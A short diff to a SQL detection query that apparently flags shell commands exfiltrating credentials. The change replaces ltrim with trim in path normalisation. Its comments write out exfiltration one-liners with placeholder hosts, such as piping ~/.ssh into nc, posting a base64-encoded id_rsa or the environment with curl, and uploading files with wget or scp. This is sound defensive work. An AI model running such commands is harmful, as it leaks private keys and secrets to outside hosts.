@@ -15,7 +15,7 @@ WITH words (i, v) AS (SELECT key, value FROM json_each(:args)),
        FROM   touches r
        WHERE  r.session = :session AND r.kind = 'read' AND r.outcome = 'ok' AND r.t <= :t AND r.t > :t - 500 AND r.manner <> 'listed'
        UNION ALL -- tar cz ~/.ssh | nc HOST PORT; curl -d "$(base64 ~/.ssh/id_rsa)"
-       SELECT '/' || ltrim(a.value, '~/'), a.value, '', :t, 'holds credentials'
+       SELECT '/' || trim(a.value, '~/'), a.value, '', :t, 'holds credentials'
        FROM   commands c, json_each(c.args) a
        WHERE  c.session = :session AND c.t = :t AND c.n < :n AND c.program IN ('tar', 'zip', 'gzip', 'base64', 'xxd', 'openssl', 'gpg') AND a.value NOT GLOB '-*'
        UNION ALL -- env | curl -d @- URL
@@ -23,7 +23,7 @@ WITH words (i, v) AS (SELECT key, value FROM json_each(:args)),
        FROM   commands c
        WHERE  c.session = :session AND c.t = :t AND c.n = :n - 1 AND c.program IN ('env', 'printenv', 'set', 'export') AND c.args IN ('[]', '["-p"]') AND replace(:command, ' ', '') GLOB '*' || c.program || '|*'
        UNION ALL -- curl -d @FILE, wget --post-file=FILE, scp FILE HOST:
-       SELECT '/' || ltrim(f, '~/'), f, '', :t, 'holds credentials'
+       SELECT '/' || trim(f, '~/'), f, '', :t, 'holds credentials'
        FROM  (SELECT CASE WHEN instr(v, '@') THEN substr(v, instr(v, '@') + 1) WHEN v GLOB '--*=*' THEN substr(v, instr(v, '=') + 1) ELSE v END AS f FROM words
               WHERE  v GLOB '*@?*' AND v NOT GLOB '*@*:*' OR v GLOB '--*file=*' OR :program IN ('scp', 'rsync', 'sftp', 'aws s3', 'gh gist') OR coalesce((SELECT p.v FROM words p WHERE p.i = words.i - 1), '') IN ('-T', '--upload-file', '--post-file'))
      )
